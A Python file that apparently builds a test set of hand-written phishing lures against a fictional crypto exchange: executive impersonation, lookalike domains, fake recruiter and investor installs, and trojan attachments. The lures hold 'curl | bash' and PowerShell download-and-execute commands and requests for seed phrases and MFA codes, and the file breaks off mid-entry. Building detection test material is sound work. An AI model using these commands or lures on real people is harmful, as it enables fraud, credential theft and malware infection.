"""Set G lures (hand-written). Each is something a security engineer would flag."""

from __future__ import annotations

from attachments_c import mac_app_zip, svg_smuggling, xar_pkg
from attachments_d import chm, jscript, vbs
from binaries import (hta, html_smuggling, iso_image, lnk, pe_stub, seven_zip, word_document,
                      zip_archive)
from people import (CEO, CFO, CFO_JA, HADDAD, ITO_JA, KEIRI, LAURENT, LI, PARK, SUZUKI, SUZUKI_JA, TAKAHASHI,
                    TANAKA, TANAKA_JA, TREASURY)
from spec import Att
from threads_g import (ARDENNE_FAKE, DAEYANG_FAKE, GULF_FAKE, HOSHINO_FAKE,
                       LARKSPUR_FAKE, LIANFENG_FAKE, MID, mk)


def L(*a, **kw):
    return mk("lure", *a, **kw)


EX, VI, LL, RC, IV, TA, WR, ATT, CH = ("exec-impersonation", "vendor-impersonation", "lookalike-link", "recruiter-coding-test",
                                      "investor-meeting-install", "trading-app", "wallet-request", "attachment",
                                      "conversation-hijack")

LURES = [
    # ---------------------------------------------------------------- exec impersonation
    L(EX, "ja", "CEO's Japanese name on Gmail asks treasury for a confidential USDT payment to a listing agent",
      ("佐藤 陽翔", "haruto.sato.kx@gmail.com"), TANAKA_JA, "至急・内密にお願いします",
      """田中さん

移動中のため個人のアドレスから失礼します。
海外取引所への上場手数料として、本日15時までに下記アドレスへ 62,000 USDT (TRC20) を送金してください。
TLxq7sV3m9aKfP2cJ8uWnR4dE6yH1bZtQo

先方とのNDAの関係で、承認フローと稟議は来週私の方でまとめて処理します。社内の他の人には共有しないでください。
完了したらこのアドレスに返信だけください。電話は会議続きで出られません。

佐藤""", "2026-11-04 10:12 +0900"),
    L(EX, "en", "romaji CEO with title on a .co TLD swap asks IT to enrol a new phone for his MFA and send the code",
      ("Haruto Sato | CEO, Kitsune Exchange", "h.sato@kitsune-ex.co"), TAKAHASHI, "New phone - authenticator",
      """Sho,

I replaced my phone at the airport and lost the authenticator. I'm boarding for Singapore in 20 minutes.
Please reset my Okta factor and send me the one-time enrolment code to this email so I can set it up on the
new device before the board call. Don't open a ticket, the helpdesk queue is too slow for this.

Haruto
Sent from my iPhone""", "2026-11-02 07:41 +0900"),
    L(EX, "ja", "spoof of the CEO's own address (DMARC fail) asks the executive assistant for the signer's hardware key PIN",
      ("佐藤 陽翔", "h.sato@kitsune-ex.co.jp"), ITO_JA, "Re: 明日の署名セレモニー",
      """伊藤さん

明日のコールドウォレット署名に私が出られなくなりました。
代理で高橋さんに操作してもらうので、私のLedgerのPINと、金庫の中の封筒にある復元フレーズの写真を
このメールに返信で送ってください。急ぎでお願いします。

佐藤""", "2026-11-09 21:05 +0900", auth="fail", reply_to="sato.haruto.office@proton.me"),
    L(EX, "en", "CFO name on kitsune-ex-hq.com asks treasury to whitelist a new withdrawal address before an audit deadline",
      ("Emily Carter (CFO)", "emily.carter@kitsune-ex-hq.com"), TANAKA, "Whitelist before 5pm - auditor sweep address",
      """Hi Mika,

The reserve auditors need us to sweep a test amount to their verification wallet today. Please add the
address below to the withdrawal whitelist on the hot wallet and push 180 ETH as soon as it's live:

0x9b3E71c0A4d58F2e6C1a07B93dF4e8a2c5B16f70

The 24h cool-down can be skipped for this one, I've cleared it with Haruto verbally. Keep it off Slack please.

Emily""", "2026-11-05 15:22 +0900"),
    L(EX, "ja", "CFO katakana name on Yahoo Japan asks accounting to pay a 'new law firm' invoice to a personal account",
      ("エミリー・カーター 取締役CFO", "emily_carter_cfo@yahoo.co.jp"), KEIRI, "弁護士費用の支払い（本日中）",
      """経理部 各位

M&A案件の弁護士費用について、本日中に以下の口座へお振込みをお願いします。
守秘義務契約のため請求書は後日私から共有します。

銀行名：みなと第一銀行 芝浦支店
口座：普通 4417820
名義：ヤマシタ ケンジ
金額：8,800,000円

振込完了後、振込明細の画像をこのアドレスに送ってください。社内システムへの登録は不要です。

エミリー""", "2026-11-06 11:48 +0900"),
    L(EX, "ko", "CEO display name on Naver asks the Seoul office to buy USDT through a private OTC contact",
      ("사토 하루토 대표", "sato.haruto.ceo@naver.com"), PARK, "대표님 지시사항 - 비공개",
      """박대현님,

지금 도쿄 이사회 중이라 개인 메일로 연락드립니다.
서울 쪽 OTC 파트너에게 오늘 중으로 USDT 35만 개를 매수해서 아래 지갑으로 보내주세요.
0x4c1A9e07D3b2F58a6E0c91B7d2A5f3E86b40C19d

이 건은 인수 협상과 관련된 건이라 한국 법인 다른 분들께는 공유하지 마시고, 끝나면 이 메일로만 회신 부탁드립니다.

사토""", "2026-11-10 14:30 +0900"),
    L(EX, "zh", "CFO name on QQ mail asks the HK OTC desk to release a client's settlement without the second approver",
      ("Emily Carter CFO", "emilycarter_kx@qq.com"), LI, "紧急：今天放行这笔结算",
      """李伟你好，

我在飞机上，用私人邮箱联系你。今天有一笔客户结算需要马上放行：
金额 420,000 USDC，收款地址 0x71De0a3B9c4F2e85A6b1C07d93E4f5a28B6c0D1e。

第二审批人今天休假，你先单人放行，系统里的复核我回来以后补上。不要打电话给我，我这边没有信号。

Emily""", "2026-11-12 09:17 +0800"),
    L(EX, "ar", "CEO name on Outlook.com asks Dubai BD to pay a 'regulator facilitation fee' in USDT",
      ("هاروتو ساتو - الرئيس التنفيذي", "haruto.sato.kitsune@outlook.com"), HADDAD, "طلب سري وعاجل",
      """عزيزي عمر،

أنا في اجتماع مغلق مع الشركاء ولا أستطيع الرد على الهاتف. نحتاج اليوم إلى دفع رسوم تسهيل لمستشار الترخيص في أبوظبي
بقيمة 95,000 USDT إلى المحفظة التالية:
TQm4v8Kc2ZrPa7WnJ5xY1eD9fB3hL6sGuE

الموضوع حساس جداً، فلا تخبر أحداً في المكتب، وأرسل لي لقطة شاشة للتحويل على هذا البريد فقط.

هاروتو""", "2026-11-11 12:05 +0400"),
    L(EX, "fr", "CFO name on a kitsune-exchange.fr lookalike asks the Paris office to wire a 'CASP escrow' to a new IBAN",
      ("Emily Carter - Directrice financière", "e.carter@kitsune-exchange.fr"), LAURENT, "Virement confidentiel - séquestre",
      """Camille,

Dans le cadre d'une acquisition que nous finalisons, le notaire exige aujourd'hui un séquestre de 240 000 EUR.
Merci d'émettre le virement vers l'IBAN ci-dessous, sans passer par le circuit habituel (l'opération n'est pas
encore annoncée en interne) :

IBAN : LT58 3250 0471 9823 4410
BIC : REVOLT21

Envoyez-moi l'avis d'exécution dès que c'est fait. Je suis injoignable par téléphone jusqu'à ce soir.

Emily""", "2026-11-13 10:40 +0100"),

    # ---------------------------------------------------------------- vendor impersonation
    L(VI, "en", "fake Fireblocks certificate rotation: download a new API co-signer package from a non-Fireblocks domain",
      ("Fireblocks Workspace Security", "security@fireblocks-certs.com"), TANAKA, "Action required: API co-signer certificate expires in 48h",
      """Hello,

The TLS certificate used by your API Co-Signer expires on 8 November 2026. After expiry the co-signer will stop
approving transactions and your workspace will fall back to manual approval.

Install the re-issued co-signer bundle on the co-signer host:
https://fireblocks-certs.com/cosigner/renew?ws=kitsune-ex

  curl -sSL https://fireblocks-certs.com/cosigner/install.sh | sudo bash

The script keeps your existing API user and private key in place.

Fireblocks Workspace Security""", "2026-11-06 03:10 +0000"),
    L(VI, "ja", "fake Safe notice: enable a 'recovery guardian' module on the treasury Safe via a lookalike domain",
      ("Safe{Wallet} サポート", "support@safewallet-recovery.app"), TANAKA_JA, "【重要】Safeアカウントのリカバリー設定のお願い",
      """Kitsune Exchange 御中

Safe{Wallet} のセキュリティ強化に伴い、高額資産を保管するSafeアカウントには「リカバリーガーディアン」
モジュールの有効化をお願いしております。下記ページからモジュールを追加し、オーナー2名で署名してください。

https://app.safewallet-recovery.app/recovery/enable?safe=eth:0x6F21b0c7A3e94D18c5B2a07E9d4F3c61A8b0e25D

11月15日までに設定がない場合、一部の機能が制限されます。

Safe{Wallet} サポートチーム""", "2026-11-08 16:02 +0900"),
    L(VI, "en", "fake Okta notice on an okta-lookalike tenant domain harvesting staff SSO credentials",
      ("Okta", "noreply@kitsune-ex.okta-verify.net"), ("All Staff", "all@kitsune-ex.co.jp"), "Your Okta session policy has changed",
      """Your organisation's administrator has enabled phishing-resistant sign-in.

To keep access to Slack, Google Workspace and Fireblocks, re-enrol your account before 17:00 today:
https://kitsune-ex.okta-verify.net/enroll?user=all

If you do not re-enrol, your account will be suspended.

Okta, Inc.""", "2026-11-03 01:30 +0000"),
    L(VI, "en", "fake Cloudflare registrar notice asks to log in on a lookalike to prevent domain transfer",
      ("Cloudflare Registrar", "registrar@cloudflare-domains.support"), TAKAHASHI, "Transfer request received for kitsune-ex.com",
      """A transfer-out request was received for kitsune-ex.com.

If you did not request this transfer, cancel it within 24 hours by signing in with your Cloudflare account and
your current 2FA code:

https://dash.cloudflare-domains.support/transfer/cancel?zone=kitsune-ex.com

If no action is taken the domain will be released to the gaining registrar.

Cloudflare Registrar""", "2026-11-14 22:18 +0000"),
    L(VI, "ko", "fake Upbit custody partner notice (vendor not in profile) asks to install a 'secure API agent' exe",
      ("업비트 커스터디 파트너센터", "partners@upbit-custody.co"), PARK, "[필독] 파트너 API 보안 에이전트 설치 안내",
      """안녕하세요, 업비트 커스터디 파트너센터입니다.

11월 20일부터 모든 파트너사의 입출금 API 호출은 보안 에이전트를 통해서만 허용됩니다.
아래 링크에서 에이전트를 내려받아 API 서버에 설치해 주십시오.

https://upbit-custody.co/partner/agent/UpbitSecureAgent_Setup.exe

설치 시 백신 프로그램이 오탐할 수 있으니 잠시 실시간 검사를 꺼 주시기 바랍니다.

감사합니다.""", "2026-11-07 10:20 +0900"),
    L(VI, "zh", "fake Chainalysis notice in Chinese: download a 'case export' viewer msi from a lookalike",
      ("Chainalysis 合规团队", "cases@chainalysis-reactor.net"), LI, "您的 KYT 预警案件 #88417 需要处理",
      """您好，

贵司地址触发了高风险 KYT 预警（与被制裁混币器相关）。请在 24 小时内下载案件导出查看器并确认交易明细：

https://chainalysis-reactor.net/export/ReactorCaseViewer.msi

逾期未处理，相关地址将被列入合作交易所的风控名单。

Chainalysis 合规团队""", "2026-11-09 11:45 +0800"),
    L(VI, "fr", "fake Coinhouse-style payments partner (not in profile) asks to re-validate the API key on a lookalike",
      ("Service Partenaires Paylium", "partenaires@paylium-pro.eu"), LAURENT, "Clé API suspendue - revalidation requise",
      """Bonjour,

Suite à un contrôle de conformité, la clé API de votre compte marchand a été suspendue.
Pour la réactiver, saisissez votre clé secrète actuelle et le code de votre application d'authentification sur :

https://paylium-pro.eu/marchand/revalidation

Sans action de votre part sous 48 heures, les retraits SEPA de vos clients seront bloqués.

L'équipe Partenaires""", "2026-11-10 09:05 +0100"),

    # ---------------------------------------------------------------- lookalike links
    L(LL, "en", "internal-looking mail from a digit-1 lookalike (k1tsune-ex.com) links to a fake SSO page",
      ("Kitsune IT Service Desk", "it-desk@k1tsune-ex.com"), SUZUKI, "Password expiry: 2 days left",
      """Hi Kenta,

Your Kitsune Exchange network password expires in 2 days. Keep your current password here:
https://sso.k1tsune-ex.com/keep-password

IT Service Desk""", "2026-11-03 09:10 +0900"),
    L(LL, "ja", "Cyrillic е/х homoglyph of the org's .co.jp domain in a benefits portal link",
      ("人事部 福利厚生窓口", "fukuri@xn--kitsune--j8g4n.co.jp"), ("All Staff", "all@kitsune-ex.co.jp"), "年末調整と冬季賞与の明細公開について",
      """社員各位

冬季賞与の明細と年末調整の書類を福利厚生ポータルに公開しました。
11月14日までに社員番号とパスワードでログインし、内容を確認してください。

https://portal.xn--kitsune--j8g4n.co.jp/bonus/2026w

人事部""", "2026-11-07 12:00 +0900"),
    L(LL, "en", "Greek-omicron homoglyph of fireblocks.io in a 'pending approval' link",
      ("Fireblocks", "no-reply@xn--fireblcks-v1g.io"), TANAKA, "1 transaction is waiting for your approval",
      """A transaction created by m.tanaka requires your approval.

Amount: 950,000 USDT
Destination: Binance deposit (whitelisted)

Review in the console: https://console.xn--fireblcks-v1g.io/v2/approvals/7e1c

Fireblocks""", "2026-11-11 04:44 +0000"),
    L(LL, "en", "combo domain safe.global-wallet.app with a signer-list review link",
      ("Safe Ecosystem", "owners@safe.global-wallet.app"), TREASURY, "Owner list review for eth:0x6F21...e25D",
      """Safe owners are asked to confirm their signer list once a year.

Open https://safe.global-wallet.app/owners/confirm?safe=0x6F21b0c7A3e94D18c5B2a07E9d4F3c61A8b0e25D and connect
each owner wallet to confirm. Unconfirmed owners will be removed from the Safe interface on 20 November.""",
      "2026-11-12 08:00 +0000"),
    L(LL, "ko", "TLD swap kitsune-ex.kr for a Korean payroll notice linking to a credential page",
      ("키츠네 익스체인지 인사팀", "hr@kitsune-ex.kr"), PARK, "11월 급여명세서 확인 요청",
      """박대현님,

11월 급여명세서가 발행되었습니다. 아래 링크에서 사내 계정으로 로그인 후 확인해 주세요.
https://payroll.kitsune-ex.kr/slip/2026-11

인사팀 드림""", "2026-11-16 10:00 +0900"),
    L(LL, "zh", "subdomain trick app.kitsune-ex.com.login-center.cc in a Chinese withdrawal-limit notice",
      ("Kitsune 风控中心", "risk@login-center.cc"), LI, "您的提币额度即将被冻结",
      """您好，

由于账户长时间未进行安全验证，您的OTC提币额度将于今晚冻结。请尽快登录验证：
https://app.kitsune-ex.com.login-center.cc/verify

风控中心""", "2026-11-08 20:30 +0800"),
    L(LL, "fr", "anchor text shows app.kitsune-ex.com but the href goes to a double-hyphen lookalike",
      ("Kitsune Exchange - Conformité", "conformite@kitsune--ex.com"), LAURENT, "Attestation annuelle LCB-FT à signer",
      """Bonjour Camille,

Votre attestation annuelle LCB-FT est à signer avant vendredi sur l'espace conformité : app.kitsune-ex.com/conformite

Cordialement,
Conformité""", "2026-11-05 14:20 +0100",
      html="""<p>Bonjour Camille,</p><p>Votre attestation annuelle LCB-FT est à signer avant vendredi sur l'espace conformité :
<a href="https://app.kitsune--ex.com/conformite/signer">https://app.kitsune-ex.com/conformite</a></p><p>Cordialement,<br>Conformité</p>"""),
    L(LL, "ar", "Arabic notice from kitsune-ex.ae (TLD swap) linking to a staff login page",
      ("فريق تقنية المعلومات - كيتسوني", "it@kitsune-ex.ae"), HADDAD, "تحديث إلزامي لكلمة المرور",
      """مرحباً عمر،

تم تحديث سياسة كلمات المرور في مكتب دبي. يرجى تسجيل الدخول وتأكيد كلمة المرور الحالية قبل نهاية اليوم:
https://login.kitsune-ex.ae/confirm

فريق تقنية المعلومات""", "2026-11-09 08:15 +0400"),

    # ---------------------------------------------------------------- recruiter coding tests
    L(RC, "en", "recruiter sends a GitHub 'take-home' to run with npm install and node, on a deadline",
      ("Natalie Brooks | Talent, Tervalis Protocol", "natalie@tervalisprotocol.io"), SUZUKI, "Tervalis Protocol - Senior Backend (take-home)",
      """Hi Kenta,

Thanks for the chat on Tuesday. As discussed, the next step is a short take-home (about 45 minutes):

  git clone https://github.com/tervalis-protocol-hiring/settlement-engine-task
  cd settlement-engine-task && npm install && node server.js

Fix the failing reconciliation endpoint and send us a screenshot of the console once it runs. The hiring manager
reviews tomorrow morning, so ideally tonight. Please use your work laptop, it has the right Node version.

Best,
Natalie""", "2026-11-04 19:05 +0000"),
    L(RC, "ja", "Japanese recruiter sends a Bitbucket repo and asks to run npm start, then pivots to Telegram",
      ("森本 恵理 | Web3キャリア", "e.morimoto@web3-career-partners.jp"), SUZUKI_JA, "二次選考：技術課題のご案内",
      """鈴木様

一次面談ありがとうございました。二次選考の技術課題をお送りします。

https://bitbucket.org/quintary-dex-recruit/wallet-ui-assessment
npm install → npm start で起動し、残高表示が崩れる不具合を修正してください。

以降のご連絡は選考担当のTelegram（@quintarydex_hr_yuki）でお願いします。本日中にご連絡いただけると助かります。

森本""", "2026-11-06 18:30 +0900"),
    L(RC, "en", "GitLab test whose README asks to pip install a wheel from a personal host and run with sudo",
      ("Dmitri Volkov", "dmitri.volkov.recruit@gmail.com"), SUZUKI, "Quant Dev role - coding exercise",
      """Hello Kenta,

Our client (a Singapore market-making fund) liked your profile. Exercise repo:
https://gitlab.com/mm-fund-assess/orderbook-sim

Setup:
  pip install -r requirements.txt
  pip install https://files.mmfund-assess.dev/orderbook_core-0.4.2-py3-none-any.whl
  sudo python3 run_sim.py --live

Please share your results on WhatsApp +65 8123 4471 - the team doesn't use email for candidate chats.

Dmitri""", "2026-11-08 11:12 +0000"),
    L(RC, "fr", "French recruiter sends a docker run with host mounts as the technical test",
      ("Léa Marchand - Recrutement Tech", "lea.marchand@talentchain-conseil.fr"), LAURENT, "Test technique - poste DevOps Blockchain",
      """Bonjour Camille,

Voici le test technique pour le poste DevOps. Lancez simplement le conteneur sur votre poste de travail :

  docker run --rm -v $HOME:/workspace -v /var/run/docker.sock:/var/run/docker.sock ghcr.io/tc-assess/devops-test:latest

Le conteneur génère un rapport que vous m'enverrez ensuite. Pour aller plus vite, écrivez-moi sur Discord (lea.tc#4471).

Bien à vous,
Léa""", "2026-11-10 16:40 +0100"),
    L(RC, "ko", "Korean recruiter sends a vercel preview and a repo with npm run setup to execute locally",
      ("이서연 | 블록체인 헤드헌터", "seoyeon.lee@chainhire.kr"), PARK, "[채용] 시니어 백엔드 - 과제 안내",
      """박대현님 안녕하세요,

면접 전에 간단한 과제를 부탁드립니다. 화면은 https://nftmarket-assess.vercel.app 에서 확인하실 수 있고,
코드는 https://github.com/nftmarket-assess/backend-task 를 클론한 뒤
npm install && npm run setup 으로 실행해 주세요.

실행 결과를 오늘 밤까지 카카오톡(ID: chainhire_sy)으로 보내주시면 됩니다.

이서연 드림""", "2026-11-12 20:10 +0900"),
    L(RC, "zh", "Chinese recruiter asks to run a 'test' repo with npx and share the terminal screenshot",
      ("猎头 王芳", "wangfang.hr@163.com"), LI, "区块链开发岗位 - 笔试题",
      """李伟您好，

我们的客户是一家新加坡交易所，想请您完成一个小笔试：
git clone https://github.com/sg-exchange-hr/defi-dashboard-test
cd defi-dashboard-test && npx yarn && npm run dev

运行成功后截图发给我，我们再约技术面试。后续请加我微信 wf_hunter88 沟通。

王芳""", "2026-11-14 15:30 +0800"),

    # ---------------------------------------------------------------- investor meetings
    L(IV, "en", "VC invites to a call on a non-Zoom domain and asks to install a 'Zoom SDK' pkg first",
      ("Adrian Kessler | Northbeam Capital", "adrian@northbeam-cap.com"), CEO, "Call tomorrow - Series C allocation",
      """Haruto,

Good speaking at the Singapore dinner. Our partners would like to walk through the Series C allocation tomorrow
at 10:00 JST. We use a compliance-recorded room:

https://zoom.us-meeting.live/j/84410022911

The room needs the latest Zoom SDK; if it says "audio unavailable", install the update from
https://zoom.us-meeting.live/sdk/ZoomSDKUpdate-6.2.pkg and rejoin.

Best,
Adrian""", "2026-11-03 18:22 +0000"),
    L(IV, "ja", "Japanese 'investor' asks the CFO to install a Teams 'meeting plugin' from a lookalike before the call",
      ("黒田 直人 | 青嶺キャピタル", "n.kuroda@seirei-capital.jp"), CFO_JA,
      "出資検討ミーティングのご案内（11/11）",
      """カーター様

先日はありがとうございました。出資検討のミーティングを11月11日14時から設定しました。
弊社は情報管理上、専用のTeams会議室を利用しております。参加前に下記の会議用プラグインをインストールしてください。

https://teams-microsoft.meet-secure.jp/plugin/TeamsMeetingAddin.msi

インストール後、同じページから入室できます。

黒田""", "2026-11-09 17:00 +0900"),
    L(IV, "en", "investor's assistant sends a Calendly-looking link on a lookalike, then a 'camera fix' terminal command",
      ("Grace Whitmore - Office of the Managing Partner", "grace@meridianpeak.vc"), CEO, "Re: intro call with Meridian Peak",
      """Hi Haruto,

Thanks for confirming. If your camera doesn't start on our meeting page (https://meet.meridianpeak-vc.com/r/kx)
it's a known Chrome issue on macOS; our IT desk says to paste this in Terminal and reload:

  curl -fsSL https://meet.meridianpeak-vc.com/fix/cam.sh | bash

Looking forward to it,
Grace""", "2026-11-13 02:15 +0000"),
    L(IV, "ko", "Korean VC asks to install a 'Webex security module' dmg before a due-diligence call",
      ("김도윤 심사역 | 한라벤처스", "doyoon.kim@halla-ventures.kr"), PARK, "실사 미팅 접속 안내",
      """박대현님,

내일 오후 3시 실사 미팅은 보안 Webex로 진행합니다. 접속 전 아래 보안 모듈을 설치해야 화면 공유가 가능합니다.

https://webex-secure.halla-ventures.kr/module/WebexSecureModule.dmg

macOS에서 '확인되지 않은 개발자' 경고가 나오면 우클릭 후 열기를 선택해 주세요.

김도윤 드림""", "2026-11-05 16:40 +0900"),
    L(IV, "ar", "Gulf family office asks to install a 'secure meeting client' exe from its own domain",
      ("سالم النعيمي - مكتب العائلة", "salem@alnuaimi-fo.com"), HADDAD, "اجتماع الاستثمار غداً",
      """عزيزي عمر،

يسعدنا تأكيد اجتماع الاستثمار غداً الساعة 11 صباحاً. لأسباب تتعلق بالسرية نستخدم تطبيق اجتماعات خاصاً،
يرجى تنزيله وتثبيته مسبقاً:
https://alnuaimi-fo.com/meet/SecureMeetClient_x64.exe

مع التحية،
سالم""", "2026-11-15 13:00 +0400"),

    # ---------------------------------------------------------------- trading apps
    L(TA, "en", "price-prediction desktop app dmg with instructions to bypass Gatekeeper",
      ("Lucas Meyer | CandleMind AI", "lucas@candlemind.ai"), TANAKA, "CandleMind desk licence for Kitsune (free pilot)",
      """Hi Mika,

As promised at the Tokyo meetup, here is a free 3-month licence of CandleMind, our AI price-prediction terminal.

Download: https://candlemind.ai/dl/CandleMind-2.3.1-arm64.dmg
Licence key: KX-7741-PILOT

macOS may say the app is damaged; run `xattr -cr /Applications/CandleMind.app` and open it again.
Connect your exchange read keys in Settings to see the predictions against your own books.

Lucas""", "2026-11-02 12:30 +0000"),
    L(TA, "ja", "arbitrage bot Windows installer with instructions to whitelist it in Defender",
      ("裁定取引ツール サポート", "support@arbi-sensei.jp"), TANAKA_JA, "【無料配布】取引所間アービトラージツール",
      """田中様

弊社の取引所間アービトラージツール「ArbiSensei」を法人様向けに無料配布しております。

ダウンロード：https://arbi-sensei.jp/download/ArbiSensei_Setup_3.0.exe

ウイルス対策ソフトが誤検知する場合は、インストールフォルダを除外設定に追加してください。
APIキーは出金権限付きで登録いただくと自動送金機能が使えます。""", "2026-11-06 09:00 +0900"),
    L(TA, "zh", "Chinese 'quant signal' Android APK sideload asking for withdrawal-enabled API keys",
      ("量化信号 客服", "service@quantsignal-app.com"), LI, "机构版量化信号 App 内测邀请",
      """您好，

诚邀贵司 OTC 团队内测我们的机构版量化信号 App（安卓）：
https://quantsignal-app.com/release/QuantSignal_Pro_v5.apk

安装时请允许"未知来源"。绑定交易所 API 时请勾选提币权限，以便开启自动对冲。""", "2026-11-11 10:10 +0800"),
    L(TA, "fr", "French trading-bot pitch with a Windows MSI for a 'portfolio rebalancer'",
      ("Hugo Renard - Equilibra", "hugo@equilibra-trade.fr"), LAURENT, "Votre essai d'Equilibra Desk",
      """Bonjour Camille,

Comme convenu au salon, voici l'installeur de notre outil de rééquilibrage automatique :
https://equilibra-trade.fr/telechargement/EquilibraDesk-4.1.msi

Lors de l'installation, Windows SmartScreen peut afficher un avertissement : cliquez sur « Informations
complémentaires » puis « Exécuter quand même ».

Hugo""", "2026-11-12 11:20 +0100"),

    # ---------------------------------------------------------------- wallet requests
    L(WR, "en", "'auditor' asks for cold-wallet xpub and seed phrase 'for reserve attestation' by mail",
      ("Rachel Ong | Veritrust Assurance", "rachel.tan@veritrust-assurance.com"), TREASURY, "Proof of reserves - key material for attestation",
      """Dear Treasury team,

To complete the November reserve attestation we need to independently derive your cold-wallet addresses.
Please reply with, for each cold wallet:
  - the extended public key (xpub)
  - the 24-word recovery phrase (we verify derivation offline and destroy it after the engagement)

Our engagement letter covers confidentiality. We need this by Friday to meet the publication date.

Rachel Ong""", "2026-11-04 06:50 +0000"),
    L(WR, "en", "market maker from a new address asks to change the USDT payout address mid-contract",
      ("Tom Hargreaves | Quillon Liquidity", "tom.hargreaves@quillon-liquidity.com"), TANAKA, "Updated settlement wallet - effective today",
      """Hi Mika,

Our custodian has rotated our settlement wallets after their quarterly key ceremony. Please use the new address
for today's and all future USDT (ERC-20) settlements:

0xA94f1C3b7e2D08c65F4a9B1e0D37c2E8b5F61a3C

The old address will no longer be monitored. No need to call, our desk is slammed today.

Tom""", "2026-11-09 08:30 +0000"),
    L(WR, "ja", "asks signers to sign raw calldata that enables an unknown Safe module",
      ("鈴木 健太", "kenta.suzuki.dev@gmail.com"), TANAKA_JA, "Safeのガス最適化アップデート 署名お願いします",
      """田中さん

鈴木です（社用PCが修理中なので個人アドレスから）。
Safeのガス代を下げるアップデートです。下のデータをそのままSafeの「Transaction Builder」に貼って署名をお願いします。

to: 0x6F21b0c7A3e94D18c5B2a07E9d4F3c61A8b0e25D
value: 0
data: 0x610b5925000000000000000000000000d3c0b1e4a9f27a5c80e6d1b43f9c27e05a8b1f64

今日中に2人目の署名が必要です。""", "2026-11-10 17:45 +0900"),
    L(WR, "ko", "Korean 'chain migration' notice asks to paste the hot-wallet private key into a web tool",
      ("대양 네트워크 마이그레이션팀", "migration@dy-mainnet.io"), PARK, "메인넷 마이그레이션 - 개인키 등록 필요",
      """안녕하세요,

11월 18일 메인넷 전환에 따라 거래소 핫월렛을 새 체인으로 이전해야 합니다.
아래 마이그레이션 도구에 현재 핫월렛의 개인키를 입력하시면 잔고가 자동으로 이전됩니다.

https://dy-mainnet.io/migrate

기한 내 이전하지 않으면 토큰이 소각됩니다.""", "2026-11-13 11:00 +0900"),
    L(WR, "ar", "Arabic 'liquidity partner' asks for an urgent USDT top-up to a fresh address to avoid a margin call",
      ("نادية الحسيني - إدارة السيولة", "nadia@desert-liquidity.com"), HADDAD, "عاجل: تغطية الهامش خلال ساعة",
      """عمر،

مركزكم لدينا تجاوز حد الهامش بسبب تقلبات السوق. يجب إيداع 150,000 USDT خلال ساعة واحدة لتجنب التصفية.
يرجى الإرسال إلى عنوان الضمان الجديد (تم تغييره هذا الأسبوع):
0x3De85b21A0c7F94e6B1d08a2C5f3E7b94A0c61D8

لا وقت للاتصال الهاتفي، فريقنا مشغول بالتصفيات.""", "2026-11-14 09:40 +0400"),
    L(WR, "fr", "'wallet provider support' asks to 'resynchronise' a hardware wallet by typing the 24 words on a page",
      ("Support Client - Coffre Numérique", "support@coffre-numerique-securite.com"), LAURENT, "Resynchronisation de votre coffre requise",
      """Bonjour,

Une désynchronisation a été détectée entre votre appareil et votre coffre numérique. Pour éviter la perte
d'accès aux fonds, saisissez vos 24 mots de récupération sur la page de resynchronisation :
https://coffre-numerique-securite.com/resync

Cette opération est obligatoire avant le 16 novembre.""", "2026-11-11 18:00 +0100"),

    # ---------------------------------------------------------------- attachments
    L(ATT, "ja", "ISO 'contract' holding a .pdf.lnk that runs mshta, sent by an unknown 'law firm'",
      ("桜坂法律事務所 小川", "ogawa@sakurazaka-law.jp"), KEIRI, "業務委託契約書（修正版）のご確認",
      """経理部 ご担当者様

修正版の業務委託契約書をお送りします。添付ファイルを開き、内容をご確認ください。
（社内規定によりディスクイメージ形式でお送りしております）

桜坂法律事務所 小川""", "2026-11-04 13:20 +0900",
      attachments=(Att("業務委託契約書_修正版.iso", iso_image([
          ("業務委託契約書_修正版.pdf.lnk", lnk(r"C:\Windows\System32\mshta.exe", "https://sakurazaka-law.jp/v/c.hta",
                                             r"%SystemRoot%\System32\imageres.dll,-102")),
          ("data/msvcp140.dll", pe_stub("g-iso-dll"))], volume="KEIYAKU"), "application/x-iso9660-image"),)),
    L(ATT, "en", "encrypted 7z with the password in the body holding a .docx.vbs 'term sheet'",
      ("Sophie Adler | Stillbrook Partners", "s.adler@stillbrook-ptn.com"), CEO, "Term sheet v3 (encrypted)",
      """Haruto,

Revised term sheet attached. Encrypted per our policy - password: SB-2026-kx

Please review before Thursday's call.

Sophie""", "2026-11-05 10:00 +0000",
      attachments=(Att("TermSheet_v3.7z", seven_zip([("TermSheet_v3.docx.vbs", vbs(
          "powershell -w hidden -ep bypass -c iex(iwr https://stillbrook-ptn.com/cdn/t.ps1 -UseB)",
          "https://stillbrook-ptn.com/ts"))], "SB-2026-kx", "g-7z-1"), "application/x-7z-compressed"),)),
    L(ATT, "en", "HTML smuggling 'secure invoice' that drops a zipped LNK",
      ("Accounts Receivable - Quorvane Cloud", "billing@quorvane-cloud.net"), KEIRI, "Invoice INV-20331 (secure message)",
      """Please find your secure invoice attached. Open the HTML file in your browser to view it.

Quorvane Cloud Billing""", "2026-11-06 02:00 +0000",
      attachments=(Att("INV-20331_secure.html", html_smuggling(
          zip_archive([("INV-20331.pdf.lnk", lnk(r"C:\Windows\System32\cmd.exe",
                       "/c curl -s https://quorvane-cloud.net/i/u.txt | powershell -", r"%SystemRoot%\System32\shell32.dll,1"))]),
          "INV-20331.zip", "Quorvane Cloud - Secure Invoice", "Your invoice is being decrypted."), "text/html"),)),
    L(ATT, "ko", "Korean 'KYC guideline' CHM help file that runs PowerShell",
      ("금융정보분석원 안내", "notice@kofiu-guide.kr"), PARK, "[공지] 가상자산사업자 트래블룰 개정 가이드라인",
      """가상자산사업자 담당자님께,

트래블룰 개정 가이드라인을 첨부합니다. 첨부된 도움말 파일(CHM)을 열어 내용을 확인해 주시기 바랍니다.""",
      "2026-11-07 09:30 +0900",
      attachments=(Att("트래블룰_개정_가이드라인.chm", chm("트래블룰 가이드라인",
          "cmd.exe,/c powershell -w hidden -c iwr https://kofiu-guide.kr/g/a.ps1 -UseB|iex", "g-chm-1"),
          "application/vnd.ms-htmlhelp"),)),
    L(ATT, "en", "XLL 'valuation model' add-in from an unknown fund",
      ("Marcus Webb | Ironvale Digital", "marcus@ironvale-digital.com"), CFO, "Token valuation model - Excel add-in",
      """Emily,

Attached is the valuation model we discussed. It's an Excel add-in so the live price feed works - just open it
and click Enable when Excel asks.

Marcus""", "2026-11-08 14:15 +0000",
      attachments=(Att("Ironvale_ValuationModel.xll", pe_stub("g-xll"), "application/vnd.ms-excel"),)),
    L(ATT, "zh", "ZipCrypto zip with password in the body holding a .pdf.js downloader",
      ("德勤审计 陈明", "chenming@deloitte-audit-hk.com"), LI, "年度审计函证文件（加密）",
